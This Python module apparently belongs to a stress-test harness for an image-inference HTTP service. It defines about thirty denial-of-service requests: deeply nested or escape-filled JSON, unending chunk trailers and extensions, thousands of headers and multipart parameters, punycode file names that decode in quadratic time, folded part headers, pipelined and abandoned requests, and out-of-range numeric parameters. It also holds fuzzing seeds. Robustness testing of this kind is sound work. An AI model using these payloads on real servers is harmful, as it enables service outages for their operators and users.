"""Bytes that are cheap to send and were dear to read: HTTP, forms, JSON, parameters, and answers."""

import itertools
import json
import socket
import struct
from collections.abc import Iterable, Iterator

from bench.attack.target import BOUNDARY, MULTIPART, Attack, Target, attacks_of, chunked, form, repeated

JSON = "application/json"
INFER = "/v2/models/ensemble_model/infer"
DELIMITER = f"--{BOUNDARY}\r\n".encode()
END = f"\r\n--{BOUNDARY}--\r\n".encode()
HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: image/jpeg\r\nConnection: close\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"


def json_of_blanks(target: Target) -> str:
    """JSON of nothing but spaces."""
    return target.post("/predict", b" " * target.nbytes, JSON)


def json_of_blanks_in_v2(target: Target) -> str:
    """The same in the middle of a request of the Open Inference Protocol."""
    return target.post(INFER, b'{"inputs": [' + b"\n" * target.nbytes + b"]}", JSON)


def json_nested(target: Target) -> str:
    """JSON that is nested a million deep."""
    return target.post(INFER, b'{"parameters": ' + b"[" * (target.nbytes // 8), JSON)


def json_of_tiny_members(target: Target) -> str:
    """JSON with as many members and elements as its bound allows."""
    members = b",".join(b'"%x":[[],[]]' % number for number in range(5_000))
    return target.post(INFER, b"{" + members + b', "inputs": []}', JSON)


def json_of_escapes(target: Target) -> str:
    """Base64 of which every character is an escape."""
    return target.post("/predict", _pieces(b'{"images": [{"b64": "', b"\\u0041", b'"}]}', target.nbytes), JSON)


def json_of_junk(target: Target) -> str:
    """Text that is not base64."""
    return target.post("/predict", _pieces(b'{"images": [{"b64": "', b"=A-_ \\n", b'"}]}', target.nbytes), JSON)


def json_of_tiny_images(target: Target) -> str:
    """A thousand images of one byte."""
    return target.post("/predict", json.dumps({"images": [{"b64": "QQ=="}] * 1_000}).encode(), JSON)


def trailer_without_end(target: Target) -> str:
    """A trailer that does not end, behind a body in chunks."""
    return target.raw(itertools.chain([CHUNKED + b"0\r\nA: "], repeated(b"x", target.nbytes)))


def trailers_without_end(target: Target) -> str:
    """Trailers without end."""
    return target.raw(itertools.chain([CHUNKED + b"0\r\n"], repeated(b"a:\r\n", target.nbytes)))


def chunk_extension_without_end(target: Target) -> str:
    """A chunk whose extension does not end."""
    return target.raw(itertools.chain([CHUNKED + b"1;a="], repeated(b"x", target.nbytes)))


def tiny_chunks(target: Target) -> str:
    """A body in chunks of one byte."""
    return target.raw(itertools.chain([CHUNKED], repeated(b"1\r\nx\r\n", target.nbytes), [b"0\r\n\r\n"]))


def many_headers(target: Target) -> str:
    """As many headers as fit."""
    fields = b"".join(b"%x:\r\n" % number for number in range(6_000))
    return target.raw([HEAD + fields + b"Content-Length: 1\r\n\r\nx"])


def many_parameters(target: Target) -> str:
    """As many query parameters as fit, none known."""
    query = "&".join(f"{number:x}" for number in range(11_000))
    return target.post(f"/predict?{query}", b"x", "image/jpeg")


def pipelined_requests(target: Target) -> str:
    """Requests that do not wait for answers."""
    request = b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n"
    return target.raw(repeated(request, min(target.nbytes, 400_000), 400_000))


def host_that_is_none(target: Target) -> str:
    """A Host header that is not a host."""
    return target.raw([b"GET /nowhere HTTP/1.1\r\nHost: [\r\nConnection: close\r\n\r\n"])


def charset_of_a_name_that_is_slow(target: Target) -> str:
    """File names in punycode, which Python decodes in quadratic time."""
    return _named(target, "filename*=punycode''" + "a" * 10_000 + "-" + "9" * 4_000)


def charset_of_a_name_that_fails(target: Target) -> str:
    """A file name in a charset that Python only knows to refuse."""
    return _named(target, "filename*=undefined''x")


def parameters_of_a_part(target: Target) -> str:
    """Parts whose header has thousands of parameters."""
    return _named(target, 'filename="x"' + ";a=b" * 4_000)


def headers_of_a_part(target: Target) -> str:
    """Parts with as many headers as fit."""
    fields = b"".join(b"%x:\r\n" % number for number in range(1_800))
    part = b'Content-Disposition: form-data; name="f"; filename="x"\r\n' + fields + b"\r\nx\r\n"
    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)


def folded_headers_of_a_part(target: Target) -> str:
    """Parts with a header on thousands of lines, which take quadratic time to join."""
    part = b'Content-Disposition: form-data; name="f"; filename="x"\r\nX: a' + b"\r\n a" * 3_900 + b"\r\n\r\nx\r\n"
    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)


def blanks_of_a_part(target: Target) -> str:
    """Spaces after a boundary and before a header's value."""
    part = b'Content-Disposition:%bform-data; name="f"; filename="x"\r\n\r\nx' % (b" " * 15_000)
    delimiter = DELIMITER[:-2] + b" " * 15_000 + b"\r\n"
    count = min(900, target.nbytes // len(delimiter + part))
    return target.post("/predict", (delimiter + part + b"\r\n") * count + END, MULTIPART)


def boundaries_that_are_none(target: Target) -> str:
    """A file full of what looks like its one-letter boundary."""
    head = b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n'
    body = itertools.chain([head], repeated(b"\r\n--bx", target.nbytes), [b"\r\n--b--\r\n"])
    return target.post("/predict", body, "multipart/form-data; boundary=b")


def tiny_parts(target: Target) -> str:
    """A thousand files of one byte in one piece."""
    return target.post_files([b"x"] * 1_000)


def numbers_beyond_all_bounds(target: Target) -> str:
    """A timeout of 10^400 microseconds, and relatives."""
    huge = b"1" + b"0" * 400
    answers = [target.post(INFER, b'{"parameters": {"timeout": %b}, "inputs": []}' % huge, JSON)]
    for name, value in itertools.product(("timeout", "top_k", "threshold"), ("1e999", "nan", "-inf", huge.decode())):
        answers.append(target.post(f"/predict?{name}={value}", b"x", "image/jpeg"))
    return ", ".join(sorted(set(answers)))


def large_answer(target: Target) -> str:
    """A thousand small images with a thousand predictions each."""
    return target.post_files([SMALL_BMP] * 1_000, "?top_k=1000&timeout=100")


def label_that_is_unknown(target: Target) -> str:
    """Two hundred images and a label that the model has not, with others that it may have been."""
    return target.post_files([SMALL_BMP] * 200, "?labels=Egyptain%20cat" + "x" * 10_000)


def labels_of_commas(target: Target) -> str:
    """Three hundred images and 200,000 labels, all but one of them empty."""
    field = b'Content-Disposition: form-data; name="labels"\r\n\r\nclass 1' + b"," * 2_000 + b"\r\n"
    image = b'Content-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + SMALL_BMP + b"\r\n"
    return target.post("/predict", (DELIMITER + field) * 99 + (DELIMITER + image) * 300 + END[2:], MULTIPART)


def requests_behind_one_that_is_left(target: Target) -> str:
    """Requests behind another whose client leaves before its answer."""
    body = b"".join(form([SMALL_BMP] * 40))
    head = f"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: {MULTIPART}\r\nContent-Length: {len(body)}\r\n\r\n"
    with target.connect() as connection:
        connection.sendall(head.encode() + body + b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n" * 12)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close by a reset
    return "left"


def length_of_thousands_of_digits(target: Target) -> str:
    """A Content-Length of 4, behind 5,000 zeros."""
    return target.raw([HEAD + b"Content-Length: " + b"0" * 5_000 + b"4\r\n\r\nabcd"])


def offers_of_other_protocols(target: Target) -> str:
    """A thousand requests that offer WebSocket, in one piece."""
    offer = b"GET /nowhere HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    return target.raw([offer * 1_000])


def _bmp(side: int) -> bytes:
    """A gray picture, uncompressed."""
    pixels = bytes([128]) * (side * side * 3)
    header = b"BM" + (54 + len(pixels)).to_bytes(4, "little") + bytes(4) + (54).to_bytes(4, "little")
    size = (40).to_bytes(4, "little") + side.to_bytes(4, "little") * 2
    return header + size + b"\x01\x00\x18\x00" + bytes(24) + pixels


SMALL_BMP = _bmp(8)


def _named(target: Target, parameter: str) -> str:
    """Files whose Content-Disposition has a parameter, as many as the attack may be large."""
    part = f'Content-Disposition: form-data; name="f"; {parameter}\r\n\r\nx\r\n'.encode()
    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)


def _parts(part: bytes, nbytes: int) -> bytes:
    return (DELIMITER + part) * max(1, min(900, nbytes // len(DELIMITER + part))) + END[2:]


def _pieces(begin: bytes, unit: bytes, end: bytes, nbytes: int) -> Iterable[bytes]:
    return itertools.chain([begin], repeated(unit, nbytes), [end])


def http_attacks() -> Iterator[bytes]:
    """Seeds of mutations: small requests of many kinds, as they go over the wire."""
    yield HEAD + b"Content-Length: 4\r\n\r\nabcd"
    yield CHUNKED + b"".join(chunked([b"ab", b"cd"]))
    yield CHUNKED + b"4;a=b\r\nabcd\r\n0\r\nA: b\r\n\r\n"
    yield b"GET /health/live?a=b HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n" * 2
    for content_type, path, body in (
        (MULTIPART, "/predict?top_k=2", b"".join(form([SMALL_BMP, b"x"]))),
        (JSON, "/predict", b'{"images": [{"b64": "QUJD", "filename": "a\\u0041.jpg"}, {"b64": ""}]}'),
        (
            JSON,
            INFER,
            b'{"id": "1", "inputs": [{"name": "IMAGE", "shape": [1], "datatype": "BYTES", "data": ["QQ=="]}]}',
        ),
    ):
        head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
        yield head.encode() + body


ATTACKS: list[Attack] = attacks_of(
    json_of_blanks,
    json_of_blanks_in_v2,
    json_nested,
    json_of_tiny_members,
    json_of_escapes,
    json_of_junk,
    json_of_tiny_images,
    trailer_without_end,
    trailers_without_end,
    chunk_extension_without_end,
    tiny_chunks,
    many_headers,
    many_parameters,
    pipelined_requests,
    host_that_is_none,
    charset_of_a_name_that_is_slow,
    charset_of_a_name_that_fails,
    parameters_of_a_part,
    headers_of_a_part,
    folded_headers_of_a_part,
    blanks_of_a_part,
    boundaries_that_are_none,
    tiny_parts,
    numbers_beyond_all_bounds,
    large_answer,
    label_that_is_unknown,
    labels_of_commas,
    requests_behind_one_that_is_left,
    length_of_thousands_of_digits,
    offers_of_other_protocols,
)
